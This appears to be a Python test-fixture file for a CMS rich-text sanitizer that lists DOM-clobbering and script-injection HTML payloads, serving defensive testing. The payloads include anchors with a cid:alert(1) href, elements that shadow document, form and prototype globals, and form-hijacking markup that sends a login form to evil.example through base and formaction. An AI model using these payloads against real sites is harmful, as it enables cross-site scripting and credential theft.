"""Markup that takes the place of what a page's own scripts look up by name."""

from cms.richtext.tests.hostile.payload import IMAGE

# `cid:` is a label to a script that runs an address as code.
CALL = "cid:alert(1)"

_OF_THE_DOCUMENT = (
    "body", "cookie", "currentScript", "defaultView", "documentElement", "forms", "getElementById",
    "head", "implementation", "querySelector", "readyState", "scripts", "write",
)  # fmt: skip
_OF_A_FORM = (
    "action", "attributes", "children", "firstChild", "innerHTML", "nodeName", "nodeType",
    "parentNode", "remove", "removeAttribute", "submit",
)  # fmt: skip

CLOBBERING = (
    *(f"<img name={name} src=/x>" for name in _OF_THE_DOCUMENT),
    *(f"<form id=config onclick=alert(1)><input name={name}></form>" for name in _OF_A_FORM),
    # a page that runs what its own global says
    f"<a id=config href={CALL}></a>",
    f"<a id=config></a><a id=config name=callback href={CALL}></a>",
    f"<area id=config href={CALL}>",
    f"<map><area id=config><area id=config name=callback href={CALL}></map>",
    f"<form id=config><output name=callback>x</output></form><a id=config name=callback href={CALL}></a>",
    f"<a ID=config HREF={CALL}></a>",
    f"<a id='config' id=x href={CALL}></a>",
    f"<a id=&#99;onfig href={CALL}></a>",
    f"<table><a id=config href={CALL}></a></table>",
    f"<svg><a id=config href={CALL}></a></svg><a id=config href={CALL}></a>",
    f"<iframe name=config srcdoc='<a id=callback href={CALL}></a>'></iframe>",
    f"<font id=x><a id=config href={CALL}>x</a></font>",
    "<object name=config data='data:text/html,<a id=callback>'></object>",
    "<embed name=config src=/x>",
    "<form name=config></form>",
    "<img id=config name=callback src=/x>",
    "<form id=config><button name=callback></button></form>",
    "<fieldset name=config id=config></fieldset>",
    "<slot id=config name=callback></slot>",
    "<p id=config>x</p>",
    "<li id=config value=1>x</li>",
    "<details id=config open><summary id=callback>x</summary></details>",
    # globals and keys that scripts rely on
    "<a id=__proto__ href=/x></a>",
    "<img name=constructor src=/x><img name=hasOwnProperty src=/x>",
    "<p id=undefined>x</p><p id=NaN>y</p>",
    "<a id=process href=/x></a><a id=process name=env href=/x></a>",
    "<a id=require href=/x></a><a id=exports href=/x></a><a id=module href=/x></a>",
    "<a id=trustedTypes href=/x></a><a id=Sanitizer href=/x></a>",
    "<div id=svelte-announcer>x</div><div id=app>y</div><div id=root>z</div>",
    "<meta name=csrf-token content=x><input name=_token value=x>",
    "<base id=baseURI href=//evil.example/><base target=config>",
    "<iframe name=top></iframe><iframe name=parent></iframe><iframe name=opener></iframe>",
    "<input form=login name=password autofocus>",
    "<button form=login formaction=//evil.example>x</button>",
    "<label for=password>x</label><output for=password name=x></output>",
    "<a href=/x target=config>x</a>",
    f"<p data-sveltekit-preload-data data-sveltekit-hydrate=x {IMAGE}",
    "<script id=__DATA__ type=application/json>{}</script>",
    "<template id=config><slot name=callback></slot></template>",
)
